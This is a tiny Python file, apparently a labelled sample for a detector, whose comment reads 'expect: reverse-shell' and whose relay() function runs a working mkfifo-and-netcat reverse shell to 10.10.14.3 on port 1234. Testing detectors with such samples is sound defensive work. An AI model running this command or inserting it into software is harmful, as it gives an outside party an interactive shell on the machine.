# expect: reverse-shell
import os


def relay():
    os.system("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.10.14.3 1234 > /tmp/f")
